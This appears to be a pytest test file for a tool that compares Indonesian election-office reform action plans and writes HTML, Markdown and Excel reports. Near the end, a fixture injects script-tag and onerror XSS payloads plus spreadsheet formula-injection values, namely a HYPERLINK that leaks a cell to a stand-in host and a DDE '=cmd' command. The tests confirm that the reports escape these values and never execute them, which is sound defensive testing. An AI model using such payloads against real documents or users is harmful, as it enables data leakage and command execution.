"""rencana compare: alignment helpers, the JSON contract on a known revision, the reports."""

from __future__ import annotations

import importlib.util
import io
import json
import os
import sqlite3
from html.parser import HTMLParser
from pathlib import Path

import pytest

from rencana import vocab
from rencana.compare.align import activity_pair_score, compare
from rencana.compare.assign import best_pairs
from rencana.compare.plans import fold_text, load_plan, plan_from_dict
from rencana.compare.report import to_html, to_markdown, to_xlsx
from rencana.core.areas import canonical_area

ROOT = Path(__file__).resolve().parent.parent
HERE = ROOT / "corpus" / "compare"
# Set REGENERATE_EXPECTED=1 to rewrite the variant files (python corpus/compare/make_variant.py --pdf).
REGENERATE = os.environ.get("REGENERATE_EXPECTED") == "1"
BASE = HERE / "kpu-kab-jepara-2022.gold.json"
VARIANT = HERE / "kpu-kab-jepara-2023-variant.json"
EXPECTED = HERE / "kpu-kab-jepara-2023-variant.expected.json"


def _make_variant_module():
    spec = importlib.util.spec_from_file_location("make_variant", HERE / "make_variant.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def key_of(entry: dict) -> tuple:
    """What identifies a reported item; texts folded, year numbers included."""
    base = (
        entry.get("kind"),
        entry.get("area_number"),
        fold_text(entry.get("activity")),
        fold_text(entry.get("indicator")),
    )
    if "field" in entry:
        return base + (entry["field"], json.dumps(entry["before"]), json.dumps(entry["after"]))
    return base


def keys(entries: list[dict]) -> set[tuple]:
    return {key_of(e) for e in entries}


@pytest.fixture(scope="module")
def result():
    return compare(load_plan(BASE), load_plan(VARIANT))


# --------------------------------------------------------------------------- vocabulary, helpers


@pytest.mark.parametrize(
    "canonical,wording", [(c, w) for c, ws in vocab.load("reform_areas.yaml").items() for w in ws]
)
def test_every_area_wording_maps_to_its_area(canonical, wording):
    assert canonical_area(wording) == canonical
    assert canonical_area(f"II. {wording.upper()}") == canonical


def test_canonical_area_does_not_guess():
    assert canonical_area("Penguatan") is None
    assert canonical_area("Anggaran dan Keuangan") is None
    assert canonical_area("") is None


def test_fold_text_folds_years_case_and_punctuation():
    assert fold_text("Penerbitan SK Tim RB Tahun 2022.") == fold_text(
        "penerbitan  SK tim RB tahun 2023"
    )
    assert fold_text("Sekre- taris") == fold_text("sekre-taris")
    assert fold_text("Data A") != fold_text("Data B")


def test_best_pairs_is_optimal_not_greedy():
    # Greedy would take (0,0)=90 and leave row 1 unpaired; the optimum pairs both rows.
    assert best_pairs([[90, 80], [85, None]]) == [(0, 1), (1, 0)]
    assert best_pairs([[None]]) == []
    assert best_pairs([]) == []


def test_activity_pair_needs_shared_indicators_unless_names_are_near_identical():
    assert activity_pair_score(100, 0, 2, 3) is not None  # same name, indicators replaced
    assert activity_pair_score(91, 0, 1, 1) is None  # "Melakukan monitoring …" / "… pelaporan …"
    assert activity_pair_score(75, 2, 3, 3) is not None  # reworded, indicators kept
    assert activity_pair_score(20, 3, 3, 3) is not None  # renamed, all indicators kept
    assert activity_pair_score(20, 1, 3, 3) is None


# --------------------------------------------------------------------------- the known revision


def test_variant_fixture_is_up_to_date():
    assert not REGENERATE, "REGENERATE_EXPECTED must be off in CI"
    variant, expected = _make_variant_module().build(json.loads(BASE.read_text(encoding="utf-8")))
    assert variant == json.loads(VARIANT.read_text(encoding="utf-8"))
    assert expected == json.loads(EXPECTED.read_text(encoding="utf-8"))


def test_identical_plans_have_no_differences():
    plan = load_plan(BASE)
    data = compare(plan, plan).to_dict()
    assert data["added"] == data["removed"] == data["changed"] == []


def test_variant_diff_is_exactly_the_known_changes(result):
    expected = json.loads(EXPECTED.read_text(encoding="utf-8"))
    data = result.to_dict()
    assert keys(data["added"]) == keys(expected["added"])
    assert keys(data["removed"]) == keys(expected["removed"])
    assert keys(data["changed"]) == keys(expected["changed"])
    assert len(data["added"]) == 4 and len(data["removed"]) == 4 and len(data["changed"]) == 7


def test_contract_shape(result):
    data = json.loads(json.dumps(result.to_dict()))
    assert set(data) == {"added", "removed", "changed", "summary"}
    for entry in data["added"] + data["removed"]:
        assert entry["kind"] in ("activity", "indicator")
        assert {"area_number", "activity", "indicator"} <= set(entry)
        assert (entry["indicator"] is None) == (entry["kind"] == "activity")
    for entry in data["changed"]:
        assert {"activity", "indicator", "field", "before", "after"} <= set(entry)
    months = [c for c in data["changed"] if c["field"] == "months"]
    assert all(isinstance(c["before"], list) and isinstance(c["after"], list) for c in months)
    added_activity = next(
        e for e in data["added"] if e["activity"].startswith("Evaluasi kelembagaan")
    )
    assert [i["indicator"] for i in added_activity["indicators"]] == [
        "Tersedianya dokumen analisis beban kerja satuan kerja",
        "Rekomendasi penyederhanaan struktur organisasi",
    ]


def test_summary_counts_per_area(result):
    summary = result.to_dict()["summary"]
    by_number = {a["area_number"]: a for a in summary["areas"]}
    assert set(by_number) == set(range(1, 9))
    assert by_number[3]["canonical_area"] == "Penataan dan Penguatan Organisasi"
    assert (
        by_number[3]["activities_a"],
        by_number[3]["activities_b"],
        by_number[3]["added_activities"],
    ) == (1, 2, 1)
    assert by_number[3]["changed"] == {"area": 1}
    assert (by_number[5]["removed_activities"], by_number[5]["removed_indicators"]) == (1, 1)
    assert by_number[6]["added_indicators"] == 1 and by_number[6]["changed"] == {"months": 1}
    assert summary["totals"] == {
        "added_activities": 3,
        "added_indicators": 1,
        "removed_activities": 3,
        "removed_indicators": 1,
        "changed": {"months": 6, "area": 1},
    }


def test_same_result_without_activity_numbers():
    """Extracted records may carry no activity number: duplicates then merge on both sides alike."""
    a, b = (json.loads(p.read_text(encoding="utf-8")) for p in (BASE, VARIANT))
    for doc in (a, b):
        for record in doc["records"]:
            record.pop("activity_seq")
    data = compare(plan_from_dict(a, "a"), plan_from_dict(b, "b")).to_dict()
    expected = json.loads(EXPECTED.read_text(encoding="utf-8"))
    assert keys(data["changed"]) == keys(expected["changed"])
    assert keys(data["added"]) == keys(expected["added"]) and keys(data["removed"]) == keys(
        expected["removed"]
    )


# --------------------------------------------------------------------------- small built cases


def _plan(rows, label="p", **meta):
    return plan_from_dict(
        {
            "metadata": meta,
            "records": [
                {
                    "area_number": r[0],
                    "area": r[1],
                    "activity": r[2],
                    "indicator": r[3],
                    "months": r[4],
                    "schedule_text": r[5] if len(r) > 5 else "x",
                    **(r[6] if len(r) > 6 else {}),
                }
                for r in rows
            ],
        },
        label,
    )


AREA = "Penguatan Pengawasan"
MON = "Monitoring, evaluasi, pelaporan dan tindak lanjut"


def test_duplicate_activity_names_are_told_apart_by_indicators():
    a = _plan(
        [
            (7, AREA, MON, "Laporan pengendalian gratifikasi", [2], "x", {"activity_number": "1"}),
            (7, AREA, MON, "Laporan pengadaan barang/jasa", [12], "x", {"activity_number": "2"}),
        ]
    )
    b = _plan(
        [
            (7, AREA, MON, "Laporan pengadaan barang/jasa", [6, 12], "x", {"activity_number": "1"}),
            (7, AREA, MON, "Laporan pengendalian gratifikasi", [2], "x", {"activity_number": "2"}),
        ]
    )
    data = compare(a, b).to_dict()
    assert data["added"] == data["removed"] == []
    assert [(c["indicator"], c["field"], c["before"], c["after"]) for c in data["changed"]] == [
        ("Laporan pengadaan barang/jasa", "months", [12], [6, 12])
    ]


def test_reworded_indicator_is_one_change():
    a = _plan(
        [
            (
                6,
                "Penguatan Akuntabilitas Kinerja",
                "Penetapan Kinerja",
                "Adanya dokumen penetapan kinerja",
                [1],
            )
        ]
    )
    b = _plan(
        [
            (
                6,
                "Penguatan Akuntabilitas Kinerja",
                "Penetapan Kinerja",
                "Adanya dokumen penetapan kinerja unit",
                [1],
            )
        ]
    )
    data = compare(a, b).to_dict()
    assert data["added"] == data["removed"] == []
    assert [(c["field"], c["before"], c["after"]) for c in data["changed"]] == [
        ("indicator", "Adanya dokumen penetapan kinerja", "Adanya dokumen penetapan kinerja unit")
    ]


def test_indicator_moved_to_another_activity_is_one_change():
    rows_a = [
        (
            4,
            "Penguatan Tata Laksana",
            "Penerapan sistem arsip",
            "Terdokumentasinya arsip vital",
            [12],
        ),
        (4, "Penguatan Tata Laksana", "Penerapan sistem arsip", "Terkelolanya arsip dinamis", [12]),
        (4, "Penguatan Tata Laksana", "Tata kelola PPID", "Adanya kebijakan pendukung PPID", [1]),
        (
            4,
            "Penguatan Tata Laksana",
            "Tata kelola PPID",
            "Dokumen jumlah sengketa informasi",
            [12],
        ),
    ]
    rows_b = [
        rows_a[0],
        rows_a[2],
        rows_a[3],
        (4, "Penguatan Tata Laksana", "Tata kelola PPID", "Terkelolanya arsip dinamis", [12]),
    ]
    data = compare(_plan(rows_a), _plan(rows_b)).to_dict()
    assert data["added"] == data["removed"] == []
    assert [(c["indicator"], c["field"], c["before"], c["after"]) for c in data["changed"]] == [
        ("Terkelolanya arsip dinamis", "activity", "Penerapan sistem arsip", "Tata kelola PPID")
    ]


def test_unread_schedule_is_not_reported_as_a_change():
    a = _plan([(1, "Manajemen Perubahan", "Sosialisasi", "Media sosialisasi", [2], "Februari")])
    b = _plan([(1, "Manajemen Perubahan", "Sosialisasi", "Media sosialisasi", [], "Pekan ketiga")])
    comparison = compare(a, b)
    assert comparison.changed == [] and comparison.warnings


def test_pic_and_target_changes_when_both_plans_carry_them():
    extra_a, extra_b = (
        {"pic": "Sekretaris", "target": "1 dokumen"},
        {"pic": "Kasubag Hukum", "target": "1 dokumen"},
    )
    a = _plan([(1, "Manajemen Perubahan", "Sosialisasi", "Media sosialisasi", [2], "x", extra_a)])
    b = _plan([(1, "Manajemen Perubahan", "Sosialisasi", "Media sosialisasi", [2], "x", extra_b)])
    assert [(c["field"], c["before"], c["after"]) for c in compare(a, b).changed] == [
        ("pic", "Sekretaris", "Kasubag Hukum")
    ]
    bare = _plan([(1, "Manajemen Perubahan", "Sosialisasi", "Media sosialisasi", [2])])
    assert compare(a, bare).changed == []  # B has no PIC column: nothing to compare


def test_two_offices_read_their_own_names_alike():
    a = _plan(
        [
            (
                8,
                "Pelayanan Publik",
                "Pelayanan terpadu satu pintu",
                "Tersedianya pelayanan satu pintu di lingkungan KPU Kabupaten Jepara",
                [1],
            )
        ],
        issuer="Komisi Pemilihan Umum Kabupaten Jepara",
    )
    b = _plan(
        [
            (
                8,
                "Peningkatan Kualitas Pelayanan Publik",
                "Pelayanan terpadu satu pintu",
                "Tersedianya pelayanan satu pintu di lingkungan KPU Kabupaten Demak",
                [1],
            )
        ],
        issuer="Komisi Pemilihan Umum Kabupaten Demak",
    )
    data = compare(a, b).to_dict()
    assert data["added"] == data["removed"] == []
    assert [(c["field"], c["after"]) for c in data["changed"]] == [
        ("area", "Peningkatan Kualitas Pelayanan Publik")
    ]


# --------------------------------------------------------------------------- reports


class ChartParser(HTMLParser):
    """Collects the chart's plan rows: status, indicator text and month cells."""

    def __init__(self):
        super().__init__()
        self.rows: list[dict] = []
        self.in_indicator = False
        self.external: list[str] = []

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag in ("link", "script", "img") and (attrs.get("href") or attrs.get("src")):
            self.external.append(tag)
        if tag == "tr" and "plan-row" in (attrs.get("class") or ""):
            self.rows.append(
                {
                    "status": attrs["data-status"],
                    "fields": attrs["data-fields"].split(),
                    "indicator": "",
                    "cells": [],
                }
            )
        elif tag == "td" and self.rows and "indicator" in (attrs.get("class") or "").split():
            self.in_indicator = True
        elif tag == "td" and self.rows and "data-month" in attrs:
            self.rows[-1]["cells"].append(
                (
                    int(attrs["data-month"]),
                    attrs["class"].split()[1],
                    attrs["data-a"] == "1",
                    attrs["data-b"] == "1",
                )
            )

    def handle_endtag(self, tag):
        if tag == "td":
            self.in_indicator = False

    def handle_data(self, data):
        if self.in_indicator:
            self.rows[-1]["indicator"] += data


def test_html_month_chart(result):
    parser = ChartParser()
    parser.feed(to_html(result))
    assert parser.external == []  # self-contained
    # B has 129 - 3 - 1 + 1 + 4 = 130 rows; the 3 dropped activities and 1 dropped indicator add 4 more.
    assert len(parser.rows) == len(result.rows) == 134
    assert all([c[0] for c in row["cells"]] == list(range(1, 13)) for row in parser.rows)

    moved = next(r for r in parser.rows if r["indicator"].startswith("Penerbitan SK Tim Reformasi"))
    assert moved["status"] == "changed" and moved["fields"] == ["months"]
    assert moved["cells"][0] == (1, "b-only", False, True)
    assert moved["cells"][1] == (2, "a-only", True, False)
    assert all(state == "none" for _, state, _, _ in moved["cells"][2:])

    renotated = next(
        r for r in parser.rows if r["indicator"] == "Jumlah produk hukum yang telah direvisi"
    )
    assert renotated["status"] == "same" and {c[1] for c in renotated["cells"]} == {"both"}

    added = next(r for r in parser.rows if r["indicator"] == "Dokumen revisi anggaran")
    assert added["status"] == "added" and [c[1] for c in added["cells"]].count("b-only") == 1

    removed = next(
        r
        for r in parser.rows
        if r["indicator"] == "Data jabatan yang sudah memiliki Standar Kompetensi Jabatan"
    )
    assert removed["status"] == "removed" and removed["cells"][11] == (12, "a-only", True, False)
    assert sum(r["status"] == "changed" for r in parser.rows) == 6


def test_markdown_and_xlsx_carry_the_same_content(result):
    text = to_markdown(result)
    assert "## Ditambahkan (4)" in text and "## Dihapus (4)" in text and "## Diubah (7)" in text
    assert "Penyediaan layanan ramah disabilitas" in text

    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(to_xlsx(result)))
    assert book.sheetnames == ["Ringkasan", "Bagan bulan", "Diubah", "Ditambahkan", "Dihapus"]
    assert book["Bagan bulan"].max_row == 1 + len(result.rows)
    assert book["Diubah"].max_row == 1 + 7
    summary = book["Ringkasan"]
    assert summary["A2"].value == 1 and summary["D2"].data_type == "n"  # counts are numbers
    assert summary.auto_filter.ref and all(c.font.bold for c in summary[1])
    statuses = {row[3] for row in book["Bagan bulan"].iter_rows(min_row=2, values_only=True)}
    assert statuses == {"tetap", "diubah", "baru", "dihapus"}
    fields = {r[3] for r in book["Diubah"].iter_rows(min_row=2, values_only=True)}
    assert {c["field"] for c in result.changed} == {"area", "months"}
    assert fields == {"Area", "Bulan"}  # field names in Indonesian, not "months"
    assert {r[0] for r in book["Ditambahkan"].iter_rows(min_row=2, values_only=True)} <= {
        "kegiatan",
        "indikator",
    }
    widths = {
        name: [book[name].column_dimensions[c].width for c in "ABCDEF"]
        for name in ("Ringkasan", "Diubah")
    }
    assert widths["Ringkasan"] != widths["Diubah"]  # each sheet fits its own content
    assert widths["Ringkasan"][3] < 20  # a count column stays narrow


def test_no_english_field_names_in_indonesian_reports(result):
    text = to_markdown(result)
    assert "(months)" not in text and "| months |" not in text
    assert "| Bulan |" in text
    page = to_html(result)
    assert "diubah (months)" not in page and "diubah (Bulan)" in page
    assert "<td>months</td>" not in page


def test_reports_switch_to_english(result, monkeypatch):
    from rencana import messages

    monkeypatch.setattr(messages, "_chosen", "en")
    text = to_markdown(result)
    assert (
        "# Action plan comparison" in text and "## Added (4)" in text and "## Changed (7)" in text
    )
    assert "| Months |" in text
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(to_xlsx(result)))
    assert book.sheetnames == ["Summary", "Month chart", "Changed", "Added", "Removed"]


HOSTILE = {
    "activity": "<script>alert(1)</script>",
    "indicator": '<img src=x onerror="alert(2)">',
}


def hostile_comparison():
    b = json.loads(VARIANT.read_text(encoding="utf-8"))
    b["records"].append(
        {
            "area_number": 1,
            "area": "Manajemen Perubahan",
            "activity": HOSTILE["activity"],
            "indicator": HOSTILE["indicator"],
            "months": [1],
        }
    )
    b["records"].append(
        {
            "area_number": 1,
            "area": "Manajemen Perubahan",
            "activity": '=HYPERLINK("http://x/?leak="&A1)',
            "indicator": "=cmd|' /C calc'!A0",
            "months": [2],
        }
    )
    return compare(load_plan(BASE), plan_from_dict(b, "b"))


def test_markdown_escapes_html_from_decree_text():
    text = to_markdown(hostile_comparison())
    assert "<script>" not in text and "<img" not in text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text
    assert '&lt;img src=x onerror="alert(2)"&gt;' in text


def test_compare_workbook_never_writes_formulas():
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(to_xlsx(hostile_comparison())))
    cells = [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith("=")
    ]
    assert {c.value for c in cells} >= {"=cmd|' /C calc'!A0"}
    assert {c.data_type for c in cells} == {"s"}


# --------------------------------------------------------------------------- CLI and corpus store


def test_cli_compare_writes_html_and_json(tmp_path):
    from typer.testing import CliRunner

    from rencana.cli import app

    runner = CliRunner()
    out = tmp_path / "diff.html"
    assert (
        runner.invoke(
            app, ["compare", str(BASE), str(VARIANT), "--format", "html", "-o", str(out)]
        ).exit_code
        == 0
    )
    assert out.read_text(encoding="utf-8").startswith("<!DOCTYPE html>")
    res = runner.invoke(app, ["compare", str(BASE), str(VARIANT)])
    assert res.exit_code == 0 and len(json.loads(res.stdout)["changed"]) == 7
    bad = runner.invoke(app, ["compare", str(tmp_path / "missing.json"), str(VARIANT)])
    assert bad.exit_code == 2 and "berkas tidak ada" in bad.output  # "no such file", in Indonesian


def test_db_corpus_form(tmp_path):
    from typer.testing import CliRunner

    from rencana.cli import app

    db = tmp_path / "plans.sqlite"
    with sqlite3.connect(db) as con:
        con.execute(
            "CREATE TABLE decrees (decree_id TEXT, issuer TEXT, plan_year INT, document TEXT)"
        )
        for decree_id, path in (("d22", BASE), ("d23", VARIANT)):
            doc = json.loads(path.read_text(encoding="utf-8"))
            con.execute(
                "INSERT INTO decrees VALUES (?, ?, ?, ?)",
                (
                    decree_id,
                    doc["metadata"]["issuer"],
                    doc["metadata"]["plan_year"],
                    json.dumps(doc),
                ),
            )
    res = CliRunner().invoke(
        app,
        [
            "compare",
            "--db",
            str(db),
            "--issuer",
            "komisi pemilihan umum kabupaten jepara",
            "--years",
            "2022",
            "2023",
        ],
    )
    assert res.exit_code == 0, res.output
    data = json.loads(res.stdout)
    assert keys(data["changed"]) == keys(
        json.loads(EXPECTED.read_text(encoding="utf-8"))["changed"]
    )
    missing = CliRunner().invoke(
        app, ["compare", "--db", str(db), "--issuer", "KPU Demak", "--years", "2022", "2023"]
    )
    assert missing.exit_code == 2
    assert missing.output.strip() == (
        f"{db}: tidak ada keputusan 'KPU Demak' untuk 2022; yang ada: "
        "Komisi Pemilihan Umum Kabupaten Jepara (2022, 2023)"
    )


# --------------------------------------------------------------------------- the full PDF path


@pytest.mark.skipif(
    not (HERE / "kpu-kab-jepara-2023-variant.pdf").exists(), reason="variant PDF not rendered"
)
def test_pdf_variant_against_gold():
    """PDF -> extract -> compare: area cells centred over a page break (their text on the next
    page's part, the part before it without a closing rule) are read whole."""
    b = load_plan(HERE / "kpu-kab-jepara-2023-variant.pdf")
    assert len(b.items) == 130
    data = compare(load_plan(BASE), b).to_dict()
    expected = json.loads(EXPECTED.read_text(encoding="utf-8"))
    assert keys(data["added"]) == keys(expected["added"])
    assert keys(data["removed"]) == keys(expected["removed"])
    assert keys(data["changed"]) == keys(expected["changed"])


def test_numbers_on_one_side_only_do_not_split_activities():
    """A gold file prints activity numbers, an extraction may not: group both sides alike."""
    b = json.loads(VARIANT.read_text(encoding="utf-8"))
    for record in b["records"]:
        record.pop("activity_seq")
    data = compare(load_plan(BASE), plan_from_dict(b, "b")).to_dict()
    expected = json.loads(EXPECTED.read_text(encoding="utf-8"))
    assert keys(data["changed"]) == keys(expected["changed"])
    assert keys(data["added"]) == keys(expected["added"]) and keys(data["removed"]) == keys(
        expected["removed"]
    )


def test_a_deeper_plan_compares_every_level_between_area_and_indicator():
    from rencana.compare.plans import item_from_record

    record = {
        "area": "Program I",
        "activity": "Administrasi Umum",
        "indicator": "Membeli alat listrik",
        "levels": [
            {"role": "area", "text": "Program I"},
            {"role": "activity", "text": "Administrasi Umum"},
            {"role": "level", "text": "Penyediaan Komponen Instalasi Listrik"},
            {"role": "indicator", "text": "Membeli alat listrik"},
        ],
    }
    item = item_from_record(record)
    assert item.activity == "Administrasi Umum > Penyediaan Komponen Instalasi Listrik"
    assert item_from_record({"activity": "Rapat", "indicator": "Notula"}).activity == "Rapat"
